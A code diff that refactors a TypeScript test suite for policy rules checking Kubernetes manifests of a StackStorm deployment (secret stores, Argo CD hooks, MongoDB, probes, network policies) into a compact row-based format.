-    resources: () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('ldap-1', { labels: { 'kubernetes.io/service-name': 'ldap' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.8'] }] }],
-    expected: 'allowed',
-  },
-  {
-    name: "production's ExternalSecret reading staging's secret store is denied",
-    rule: 'ST2-SEC-011',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-prod' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }],
-    expected: deny('ST2-SEC-011', { field: 'spec.secretStoreRef', message: 'store=st2-staging' }),
-  },
-  {
-    name: "staging's ExternalSecret reading staging's secret store is allowed",
-    rule: 'ST2-SEC-011',
-    environment: 'staging',
-    resources: () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-staging' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-018', [
+    ['staging', 'a ConfigMap st2api mounts, made a PreSync hook, is denied', () => [workload('st2api'), { apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-rbac-on', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'st2.user.conf': '[rbac]\nenable = True\nbackend = default\n' } }], deny('ST2-OPS-018', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=PreSync' })],
+    ['production', 'a ConfigMap only a hook uses, made a hook, is allowed', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('smoke-script', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'run.sh': 'nc -z st2api 9101' } }], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-019', [
+    ['production', "st2's Namespace handed to another Argo CD instance is denied", () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline', 'argocd.argoproj.io/managed-by': 'team-argocd' } } }], deny('ST2-OPS-019', { field: 'metadata.labels.argocd.argoproj.io/managed-by', message: 'to=team-argocd' })],
+    ['production', 'an HNC HierarchyConfiguration without a parent is allowed', () => [{ apiVersion: 'hnc.x-k8s.io/v1alpha2', kind: 'HierarchyConfiguration', metadata: meta('hierarchy'), spec: { allowCascadingDeletion: false } }], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-025', [
+    ['dev', "st2's API URL pointing at production's services from another environment is denied", () => [workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: 'http://st2api.st2-prod.svc:9101/' }] } })], deny('ST2-OPS-025', { field: 'spec.template.spec.containers.0.env.0', message: 'namespace=st2-prod' })],
+    ['dev', "st2's API URL naming its own namespace's Service is allowed", () => [workload('st2scheduler'), workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: `http://st2api.${NAMESPACE}.svc:9101/` }] } })], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-026', [
+    ['staging', 'a hand-written EndpointSlice for st2auth is denied', () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('st2auth-static', { labels: { 'kubernetes.io/service-name': 'st2auth' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.7'] }] }], deny('ST2-OPS-026', { field: 'metadata.labels.kubernetes.io/service-name', message: 'service=st2auth' })],
+    ['production', 'an EndpointSlice for an outside LDAP Service is allowed', () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('ldap-1', { labels: { 'kubernetes.io/service-name': 'ldap' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.8'] }] }], 'allowed'],
+  ]),
+  ...rows('ST2-SEC-011', [
+    ['production', "production's ExternalSecret reading staging's secret store is denied", () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-prod' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }], deny('ST2-SEC-011', { field: 'spec.secretStoreRef', message: 'store=st2-staging' })],
+    ['staging', "staging's ExternalSecret reading staging's secret store is allowed", () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'st2-auth', namespace: 'st2-staging' }, spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-staging' }, target: { name: 'st2-auth' } } }], 'allowed'],
+  ]),
   ...fresh7Cases(),
   ...fresh8PodCases(),
   ...fresh8Cases(),
@@ -1864,10 +1036,14 @@ function syncOrderCases(): RuleCase[] {
     { apiVersion: 'batch/v1', kind: 'Job', metadata: meta('st2-register-content', { annotations: { 'argocd.argoproj.io/hook': hook } }), spec: { ...spec, template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'r', image: 'stackstorm/st2actionrunner:3.8.1', command: ['st2-register-content', '--register-all'], resources: { limits: { cpu: '500m', memory: '512Mi' } } }] } } } },
   ];
   return [
-    { name: 'a workload in a wave before the Secret it mounts is denied', rule: 'ST2-OPS-067', environment: prod, resources: () => timers('-3'), expected: deny('ST2-OPS-067', { message: 'needs=Secret/st2-keys' }) },
-    { name: 'a workload after the Secret it mounts is allowed', rule: 'ST2-OPS-067', environment: prod, resources: () => timers('0'), expected: 'allowed' },
-    { name: 'st2-register-content given 5 seconds is denied', rule: 'ST2-OPS-068', environment: prod, resources: () => job('PostSync', { activeDeadlineSeconds: 5 }), expected: deny('ST2-OPS-068', { message: 'seconds=5' }) },
-    { name: 'st2-register-content given 30 minutes is allowed', rule: 'ST2-OPS-068', environment: prod, resources: () => job('PostSync', { activeDeadlineSeconds: 1800, backoffLimit: 3 }), expected: 'allowed' },
+    ...rows('ST2-OPS-067', [
+      [prod, 'a workload in a wave before the Secret it mounts is denied', () => timers('-3'), deny('ST2-OPS-067', { message: 'needs=Secret/st2-keys' })],
+      [prod, 'a workload after the Secret it mounts is allowed', () => timers('0'), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-068', [
+      [prod, 'st2-register-content given 5 seconds is denied', () => job('PostSync', { activeDeadlineSeconds: 5 }), deny('ST2-OPS-068', { message: 'seconds=5' })],
+      [prod, 'st2-register-content given 30 minutes is allowed', () => job('PostSync', { activeDeadlineSeconds: 1800, backoffLimit: 3 }), 'allowed'],
+    ]),
   ];
 }
 
@@ -1882,16 +1058,26 @@ function podStartCases(): RuleCase[] {
   const selectorEdit = (file: string): Readonly<Record<number, readonly FieldEdit[]>> => ({ 0: [{ pointer: '/spec/selector/matchLabels/team', file, line: 5, by: 'commonLabels' }] });
   const api = (): Manifest[] => haWorkload('st2api', 2);
   return [
-    { name: 'runAsNonRoot on st2web (nginx starts as root) is denied', rule: 'ST2-OPS-062', environment: prod, resources: () => web({}, { securityContext: { runAsNonRoot: true } }), expected: deny('ST2-OPS-062', { message: 'without a USER' }) },
-    { name: 'runAsNonRoot with runAsUser 101 on st2web is allowed', rule: 'ST2-OPS-062', environment: prod, resources: () => web({}, { securityContext: { runAsNonRoot: true, runAsUser: 101 } }), expected: 'allowed' },
-    { name: 'a paused Deployment is denied in production', rule: 'ST2-OPS-063', environment: prod, resources: () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: true } } : m)), expected: deny('ST2-OPS-063', { field: 'spec.paused' }) },
-    { name: 'an unpaused Deployment is allowed', rule: 'ST2-OPS-063', environment: prod, resources: () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: false } } : m)), expected: 'allowed' },
-    { name: 'a ReadWriteOnce claim for two runners is denied', rule: 'ST2-OPS-064', environment: prod, resources: () => mounting('st2actionrunner', 2), expected: deny('ST2-OPS-064', { message: 'claim=packs' }) },
-    { name: 'a ReadWriteOnce claim for one pod is allowed', rule: 'ST2-OPS-064', environment: prod, resources: () => mounting('st2timersengine', 1), expected: 'allowed' },
-    { name: "an emptyDir over st2's virtualenv is denied", rule: 'ST2-OPS-065', environment: prod, resources: () => timers('/opt/stackstorm/st2'), expected: deny('ST2-OPS-065', { message: 'mount=/opt/stackstorm/st2' }) },
-    { name: 'an emptyDir beside it is allowed', rule: 'ST2-OPS-065', environment: prod, resources: () => timers('/opt/stackstorm/scratch'), expected: 'allowed' },
-    { name: 'a liveness probe running false is denied', rule: 'ST2-OPS-066', environment: prod, resources: () => probe(['false']), expected: deny('ST2-OPS-066', { message: 'probe=livenessProbe' }) },
-    { name: 'a liveness probe reading /proc is allowed', rule: 'ST2-OPS-066', environment: prod, resources: () => probe(['sh', '-c', 'test -d /proc/1']), expected: 'allowed' },
+    ...rows('ST2-OPS-062', [
+      [prod, 'runAsNonRoot on st2web (nginx starts as root) is denied', () => web({}, { securityContext: { runAsNonRoot: true } }), deny('ST2-OPS-062', { message: 'without a USER' })],
+      [prod, 'runAsNonRoot with runAsUser 101 on st2web is allowed', () => web({}, { securityContext: { runAsNonRoot: true, runAsUser: 101 } }), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-063', [
+      [prod, 'a paused Deployment is denied in production', () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: true } } : m)), deny('ST2-OPS-063', { field: 'spec.paused' })],
+      [prod, 'an unpaused Deployment is allowed', () => haWorkload('st2api', 2).map((m) => (m['kind'] === 'Deployment' ? { ...m, spec: { ...(m['spec'] as Manifest), paused: false } } : m)), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-064', [
+      [prod, 'a ReadWriteOnce claim for two runners is denied', () => mounting('st2actionrunner', 2), deny('ST2-OPS-064', { message: 'claim=packs' })],
+      [prod, 'a ReadWriteOnce claim for one pod is allowed', () => mounting('st2timersengine', 1), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-065', [
+      [prod, "an emptyDir over st2's virtualenv is denied", () => timers('/opt/stackstorm/st2'), deny('ST2-OPS-065', { message: 'mount=/opt/stackstorm/st2' })],
+      [prod, 'an emptyDir beside it is allowed', () => timers('/opt/stackstorm/scratch'), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-066', [
+      [prod, 'a liveness probe running false is denied', () => probe(['false']), deny('ST2-OPS-066', { message: 'probe=livenessProbe' })],
+      [prod, 'a liveness probe reading /proc is allowed', () => probe(['sh', '-c', 'test -d /proc/1']), 'allowed'],
+    ]),
     { name: "a selector an overlay rewrote over the base's is denied", rule: 'ST2-REP-031', environment: prod, edits: selectorEdit('overlays/x/kustomization.yaml'), resources: api, expected: deny('ST2-REP-031', { field: 'spec.selector' }) },
     { name: "a selector the file's own kustomization set is allowed", rule: 'ST2-REP-031', environment: prod, edits: selectorEdit('kustomization.yaml'), resources: api, expected: 'allowed' },
   ];
@@ -1902,33 +1088,35 @@ function fresh9StoreCases(): RuleCase[] {
   const sts = (args: string[], image = 'mongo:4.4.29'): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image, args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt', ...args] } });
   const withSpec = (resources: Manifest[], extra: Manifest): Manifest[] => resources.map((r) => (r['kind'] === 'StatefulSet' ? { ...r, spec: { ...(r['spec'] as Manifest), ...extra } } : r));
   return [
-    { name: 'mongod on its claim is allowed', rule: 'ST2-REP-021', environment: 'production', resources: () => sts(['--dbpath', '/data/db']), expected: 'allowed' },
-    { name: 'mongod moved below its claim\'s root is denied (mongod exits on a missing dbPath, then starts empty)', rule: 'ST2-REP-021', environment: 'production', resources: () => sts(['--dbpath', '/data/db/st2']), expected: deny('ST2-REP-021', { message: 'volume=moved within its claim' }) },
-    { name: 'mongod --dbpath off its claim is denied', rule: 'ST2-REP-021', environment: 'production', resources: () => sts(['--dbpath=/tmp/db']), expected: deny('ST2-REP-021', { message: 'volume=container-filesystem' }) },
-    { name: 'PVC retention Retain is allowed', rule: 'ST2-REP-022', environment: 'production', resources: () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenDeleted: 'Retain', whenScaled: 'Retain' } }), expected: 'allowed' },
-    { name: 'PVC retention Delete on MongoDB is denied', rule: 'ST2-REP-022', environment: 'staging', resources: () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } }), expected: deny('ST2-REP-022') },
-    { name: 'mongod with its journal is allowed', rule: 'ST2-REP-023', environment: 'production', resources: () => sts([]), expected: 'allowed' },
-    { name: 'mongod --nojournal is denied', rule: 'ST2-REP-023', environment: 'production', resources: () => sts(['--nojournal']), expected: deny('ST2-REP-023', { message: 'setting=--nojournal' }) },
-    { name: 'MongoDB 4.4 is within the versions', rule: 'ST2-REP-024', environment: 'production', resources: () => sts([]), expected: 'allowed' },
-    { name: 'MongoDB 4.2 below the versions is denied', rule: 'ST2-REP-024', environment: 'dev', resources: () => sts([], 'mongo:4.2.24'), expected: deny('ST2-REP-024', { message: 'problem=below 4.4' }) },
-    { name: 'a MongoDB rollout one member at a time is allowed', rule: 'ST2-REP-025', environment: 'production', resources: () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1 } } }), expected: 'allowed' },
-    { name: 'a MongoDB rollout of 2 of 3 members at once is denied', rule: 'ST2-REP-025', environment: 'production', resources: () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: '50%' } } }), expected: deny('ST2-REP-025', { message: 'unavailable=2' }) },
-    { name: 'a budget letting one member go is allowed', rule: 'ST2-OPS-038', environment: 'production', resources: () => sts([]), expected: 'allowed' },
-    {
-      name: 'a budget allowing no disruption is denied',
-      rule: 'ST2-OPS-038',
-      environment: 'production',
-      resources: () => sts([]).map((r) => (r['kind'] === 'PodDisruptionBudget' ? { ...r, spec: { maxUnavailable: 0, selector: (r['spec'] as Manifest)['selector'] } } : r)),
-      expected: deny('ST2-OPS-038', { message: 'problem=the budget allows no disruption' }),
-    },
-    { name: 'MongoDB on cluster DNS is allowed', rule: 'ST2-OPS-039', environment: 'production', resources: () => sts([]), expected: 'allowed' },
-    {
-      name: 'MongoDB on the node resolver is denied',
-      rule: 'ST2-OPS-039',
-      environment: 'staging',
-      resources: () => sts([]).map((r) => (r['kind'] === 'StatefulSet' ? { ...r, spec: { ...(r['spec'] as Manifest), template: { ...((r['spec'] as Manifest)['template'] as Manifest), spec: { ...(((r['spec'] as Manifest)['template'] as Manifest)['spec'] as Manifest), dnsPolicy: 'Default' } } } } : r)),
-      expected: deny('ST2-OPS-039'),
-    },
+    ...rows('ST2-REP-021', [
+      ['production', 'mongod on its claim is allowed', () => sts(['--dbpath', '/data/db']), 'allowed'],
+      ['production', 'mongod moved below its claim\'s root is denied (mongod exits on a missing dbPath, then starts empty)', () => sts(['--dbpath', '/data/db/st2']), deny('ST2-REP-021', { message: 'volume=moved within its claim' })],
+      ['production', 'mongod --dbpath off its claim is denied', () => sts(['--dbpath=/tmp/db']), deny('ST2-REP-021', { message: 'volume=container-filesystem' })],
+    ]),
+    ...rows('ST2-REP-022', [
+      ['production', 'PVC retention Retain is allowed', () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenDeleted: 'Retain', whenScaled: 'Retain' } }), 'allowed'],
+      ['staging', 'PVC retention Delete on MongoDB is denied', () => withSpec(sts([]), { persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } }), deny('ST2-REP-022')],
+    ]),
+    ...rows('ST2-REP-023', [
+      ['production', 'mongod with its journal is allowed', () => sts([]), 'allowed'],
+      ['production', 'mongod --nojournal is denied', () => sts(['--nojournal']), deny('ST2-REP-023', { message: 'setting=--nojournal' })],
+    ]),
+    ...rows('ST2-REP-024', [
+      ['production', 'MongoDB 4.4 is within the versions', () => sts([]), 'allowed'],
+      ['dev', 'MongoDB 4.2 below the versions is denied', () => sts([], 'mongo:4.2.24'), deny('ST2-REP-024', { message: 'problem=below 4.4' })],
+    ]),
+    ...rows('ST2-REP-025', [
+      ['production', 'a MongoDB rollout one member at a time is allowed', () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1 } } }), 'allowed'],
+      ['production', 'a MongoDB rollout of 2 of 3 members at once is denied', () => withSpec(sts([]), { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: '50%' } } }), deny('ST2-REP-025', { message: 'unavailable=2' })],
+    ]),
+    ...rows('ST2-OPS-038', [
+      ['production', 'a budget letting one member go is allowed', () => sts([]), 'allowed'],
+      ['production', 'a budget allowing no disruption is denied', () => sts([]).map((r) => (r['kind'] === 'PodDisruptionBudget' ? { ...r, spec: { maxUnavailable: 0, selector: (r['spec'] as Manifest)['selector'] } } : r)), deny('ST2-OPS-038', { message: 'problem=the budget allows no disruption' })],
+    ]),
+    ...rows('ST2-OPS-039', [
+      ['production', 'MongoDB on cluster DNS is allowed', () => sts([]), 'allowed'],
+      ['staging', 'MongoDB on the node resolver is denied', () => sts([]).map((r) => (r['kind'] === 'StatefulSet' ? { ...r, spec: { ...(r['spec'] as Manifest), template: { ...((r['spec'] as Manifest)['template'] as Manifest), spec: { ...(((r['spec'] as Manifest)['template'] as Manifest)['spec'] as Manifest), dnsPolicy: 'Default' } } } } : r)), deny('ST2-OPS-039')],
+    ]),
   ];
 }
 
@@ -2020,14 +1208,10 @@ function fresh8PodCases(): RuleCase[] {
   const rootRunner = workload('st2actionrunner', { container: { securityContext: { runAsUser: 0 } } });
   const svc = (spec: Manifest): Manifest => ({ apiVersion: 'v1', kind: 'Service', metadata: meta('rabbitmq'), spec: { ports: [{ port: 5672 }], ...spec } });
   return [
-    {
-      name: 'a scheduler the cluster does not run is denied',
-      rule: 'ST2-OPS-028',
-      environment: 'production',
-      resources: () => timersWith({ schedulerName: 'volcano' }),
-      expected: deny('ST2-OPS-028', { field: 'spec.template.spec.schedulerName', message: 'value=volcano' }),
-    },
-    { name: 'the default scheduler is allowed', rule: 'ST2-OPS-028', environment: 'production', resources: () => timersWith({ schedulerName: 'default-scheduler' }), expected: 'allowed' },
+    ...rows('ST2-OPS-028', [
+      ['production', 'a scheduler the cluster does not run is denied', () => timersWith({ schedulerName: 'volcano' }), deny('ST2-OPS-028', { field: 'spec.template.spec.schedulerName', message: 'value=volcano' })],
+      ['production', 'the default scheduler is allowed', () => timersWith({ schedulerName: 'default-scheduler' }), 'allowed'],
+    ]),
     {
       name: 'Pod Security restricted on a namespace running a root pod is denied',
       rule: 'ST2-OPS-029',
@@ -2036,37 +1220,18 @@ function fresh8PodCases(): RuleCase[] {
       expected: deny('ST2-OPS-029', { field: 'spec.template.spec', message: 'level=restricted' }),
     },
     { name: 'Pod Security baseline on the same namespace is allowed', rule: 'ST2-OPS-029', environment: 'production', resources: () => [ns('baseline'), rootRunner], expected: 'allowed', others: ['ST2-REP-005', 'ST2-REP-011'] },
-    {
-      name: 'st2.secrets.conf at 0440 without fsGroup for uid 1000 is denied',
-      rule: 'ST2-OPS-030',
-      environment: 'production',
-      resources: () => secretsConf({ runAsUser: 1000, runAsGroup: 1000 }),
-      expected: deny('ST2-OPS-030', { field: 'spec.template.spec.containers.0', message: 'mode=0440' }),
-    },
-    { name: 'the same file with fsGroup 1000 is allowed', rule: 'ST2-OPS-030', environment: 'production', resources: () => secretsConf({ runAsUser: 1000, runAsGroup: 1000, fsGroup: 1000 }), expected: 'allowed' },
-    {
-      name: "a liveness probe on st2api's port in the timers engine is denied",
-      rule: 'ST2-OPS-031',
-      environment: 'production',
-      resources: () => timersWith({}, { livenessProbe: { tcpSocket: { port: 9101 } } }),
-      expected: deny('ST2-OPS-031', { field: 'spec.template.spec.containers.0.livenessProbe.tcpSocket.port', message: 'port=9101' }),
-    },
-    { name: 'an exec probe in the timers engine is allowed', rule: 'ST2-OPS-031', environment: 'production', resources: () => timersWith({}, { livenessProbe: { exec: { command: ['true'] } } }), expected: 'allowed' },
-    {
-      name: 'a RabbitMQ Service whose selector matches no pod is denied',
-      rule: 'ST2-REP-018',
-      environment: 'production',
-      resources: () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbit' } })],
-      expected: deny('ST2-REP-018', { field: 'spec.selector', message: 'service=rabbitmq' }),
-    },
-    {
-      name: 'the RabbitMQ Service selecting its pods is allowed',
-      rule: 'ST2-REP-018',
-      environment: 'production',
-      resources: () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbitmq' } })],
-      expected: 'allowed',
-      others: ['ST2-HRD-004'],
-    },
+    ...rows('ST2-OPS-030', [
+      ['production', 'st2.secrets.conf at 0440 without fsGroup for uid 1000 is denied', () => secretsConf({ runAsUser: 1000, runAsGroup: 1000 }), deny('ST2-OPS-030', { field: 'spec.template.spec.containers.0', message: 'mode=0440' })],
+      ['production', 'the same file with fsGroup 1000 is allowed', () => secretsConf({ runAsUser: 1000, runAsGroup: 1000, fsGroup: 1000 }), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-031', [
+      ['production', "a liveness probe on st2api's port in the timers engine is denied", () => timersWith({}, { livenessProbe: { tcpSocket: { port: 9101 } } }), deny('ST2-OPS-031', { field: 'spec.template.spec.containers.0.livenessProbe.tcpSocket.port', message: 'port=9101' })],
+      ['production', 'an exec probe in the timers engine is allowed', () => timersWith({}, { livenessProbe: { exec: { command: ['true'] } } }), 'allowed'],
+    ]),
+    ...rows('ST2-REP-018', [
+      ['production', 'a RabbitMQ Service whose selector matches no pod is denied', () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbit' } })], deny('ST2-REP-018', { field: 'spec.selector', message: 'service=rabbitmq' })],
+      ['production', 'the RabbitMQ Service selecting its pods is allowed', () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbitmq' } })], 'allowed', { others: ['ST2-HRD-004'] }],
+    ]),
   ];
 }
 
@@ -2087,20 +1252,34 @@ function fresh8Cases(): RuleCase[] {
   ];
   const timers = (annotations: Record<string, string>): Manifest[] => [workload('st2timersengine', { annotations })];
   return [
-    { name: 'a LimitRange min above what st2api requests is denied', rule: 'ST2-OPS-032', environment: 'production', resources: () => [...haWorkload('st2api'), lr({ min: { memory: '1Gi' } })], expected: deny('ST2-OPS-032', { field: 'spec.limits.0', message: 'refused=Deployment/st2api' }) },
-    { name: 'a LimitRange max st2api fits is allowed', rule: 'ST2-OPS-032', environment: 'production', resources: () => [...haWorkload('st2api'), lr({ max: { memory: '1Gi', cpu: '2' } })], expected: 'allowed' },
-    { name: 'a ValidatingAdmissionPolicy bound with Deny over every namespace is denied', rule: 'ST2-OPS-033', environment: 'dev', resources: () => [binding(['Deny'])], expected: deny('ST2-OPS-033', { message: 'policy=require-labels' }) },
-    { name: 'the same binding with Warn and Audit only is allowed', rule: 'ST2-OPS-033', environment: 'production', resources: () => [binding(['Warn', 'Audit'])], expected: 'allowed' },
-    { name: 'egress without DNS for st2api is denied', rule: 'ST2-OPS-034', environment: 'production', resources: () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }])], expected: deny('ST2-OPS-034', { field: 'spec.egress', message: 'to=kube-system/kube-dns' }) },
-    { name: 'egress allowing kube-dns on UDP 53 is allowed', rule: 'ST2-OPS-034', environment: 'production', resources: () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }, kubeDns])], expected: 'allowed' },
-    { name: 'a Cilium egress policy without a DNS rule is denied', rule: 'ST2-OPS-035', environment: 'production', resources: () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }])], expected: deny('ST2-OPS-035', { message: 'port 53' }) },
-    { name: 'a Cilium egress policy allowing DNS outside production is allowed', rule: 'ST2-OPS-035', environment: 'dev', resources: () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }, { toPorts: [{ ports: [{ port: '53', protocol: 'UDP' }] }] }])], expected: 'allowed' },
-    { name: "st2web's production certificate from a selfSigned issuer is denied", rule: 'ST2-EXP-012', environment: 'production', resources: () => web({ selfSigned: {} }), expected: deny('ST2-EXP-012', { message: 'a self-signed issuer' }) },
-    { name: "st2web's production certificate from Let's Encrypt's production directory is allowed", rule: 'ST2-EXP-012', environment: 'production', resources: () => web({ acme: { server: 'https://acme-v02.api.letsencrypt.org/directory' } }), expected: 'allowed' },
-    { name: 'kube-downscaler taking the timers engine to 0 at weekends is denied', rule: 'ST2-REP-019', environment: 'production', resources: () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC' }), expected: deny('ST2-REP-019', { message: 'component=st2timersengine' }) },
-    { name: 'the same annotation with downscaler/exclude is allowed', rule: 'ST2-REP-019', environment: 'production', resources: () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC', 'downscaler/exclude': 'true' }), expected: 'allowed' },
-    { name: "a VPA capping st2api's memory below its request is denied", rule: 'ST2-REP-020', environment: 'production', resources: () => [...haWorkload('st2api'), vpa('Auto')], expected: deny('ST2-REP-020', { message: 'container=st2api' }) },
-    { name: 'the same VPA in Off mode is allowed', rule: 'ST2-REP-020', environment: 'production', resources: () => [...haWorkload('st2api'), vpa('Off')], expected: 'allowed' },
+    ...rows('ST2-OPS-032', [
+      ['production', 'a LimitRange min above what st2api requests is denied', () => [...haWorkload('st2api'), lr({ min: { memory: '1Gi' } })], deny('ST2-OPS-032', { field: 'spec.limits.0', message: 'refused=Deployment/st2api' })],
+      ['production', 'a LimitRange max st2api fits is allowed', () => [...haWorkload('st2api'), lr({ max: { memory: '1Gi', cpu: '2' } })], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-033', [
+      ['dev', 'a ValidatingAdmissionPolicy bound with Deny over every namespace is denied', () => [binding(['Deny'])], deny('ST2-OPS-033', { message: 'policy=require-labels' })],
+      ['production', 'the same binding with Warn and Audit only is allowed', () => [binding(['Warn', 'Audit'])], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-034', [
+      ['production', 'egress without DNS for st2api is denied', () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }])], deny('ST2-OPS-034', { field: 'spec.egress', message: 'to=kube-system/kube-dns' })],
+      ['production', 'egress allowing kube-dns on UDP 53 is allowed', () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }, kubeDns])], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-035', [
+      ['production', 'a Cilium egress policy without a DNS rule is denied', () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }])], deny('ST2-OPS-035', { message: 'port 53' })],
+      ['dev', 'a Cilium egress policy allowing DNS outside production is allowed', () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }, { toPorts: [{ ports: [{ port: '53', protocol: 'UDP' }] }] }])], 'allowed'],
+    ]),
+    ...rows('ST2-EXP-012', [
+      ['production', "st2web's production certificate from a selfSigned issuer is denied", () => web({ selfSigned: {} }), deny('ST2-EXP-012', { message: 'a self-signed issuer' })],
+      ['production', "st2web's production certificate from Let's Encrypt's production directory is allowed", () => web({ acme: { server: 'https://acme-v02.api.letsencrypt.org/directory' } }), 'allowed'],
+    ]),
+    ...rows('ST2-REP-019', [
+      ['production', 'kube-downscaler taking the timers engine to 0 at weekends is denied', () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC' }), deny('ST2-REP-019', { message: 'component=st2timersengine' })],
+      ['production', 'the same annotation with downscaler/exclude is allowed', () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC', 'downscaler/exclude': 'true' }), 'allowed'],
+    ]),
+    ...rows('ST2-REP-020', [
+      ['production', "a VPA capping st2api's memory below its request is denied", () => [...haWorkload('st2api'), vpa('Auto')], deny('ST2-REP-020', { message: 'container=st2api' })],
+      ['production', 'the same VPA in Off mode is allowed', () => [...haWorkload('st2api'), vpa('Off')], 'allowed'],
+    ]),
   ];
 }
 
@@ -2118,22 +1297,26 @@ function fresh9ClusterCases(): RuleCase[] {
   const sa = (annotations: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: meta('default', { annotations }) });
   const mongo = (pod: Manifest): Manifest[] => [workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k'] }, pod })];
   return [
-    { name: 'a globalDefault PriorityClass is denied, in dev too', rule: 'ST2-OPS-040', environment: 'dev', resources: () => [priorityClass(1000, true)], expected: deny('ST2-OPS-040', { field: 'globalDefault' }) },
-    { name: 'a PriorityClass of 100000, not the default, is allowed', rule: 'ST2-OPS-040', environment: 'production', resources: () => [priorityClass(100000, false)], expected: 'allowed' },
-    { name: 'a default StorageClass is denied', rule: 'ST2-OPS-041', environment: 'production', resources: () => [storageClass('true')], expected: deny('ST2-OPS-041', { message: 'kind=StorageClass' }) },
-    { name: 'a StorageClass that is not the default is allowed', rule: 'ST2-OPS-041', environment: 'production', resources: () => [storageClass('false')], expected: 'allowed' },
-    {
-      name: 'an APIService in the render is denied',
-      rule: 'ST2-OPS-042',
-      environment: 'production',
-      resources: () => [{ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1beta1.metrics.k8s.io' }, spec: { group: 'metrics.k8s.io', version: 'v1beta1' } }],
-      expected: deny('ST2-OPS-042', { message: 'kind=APIService' }),
-    },
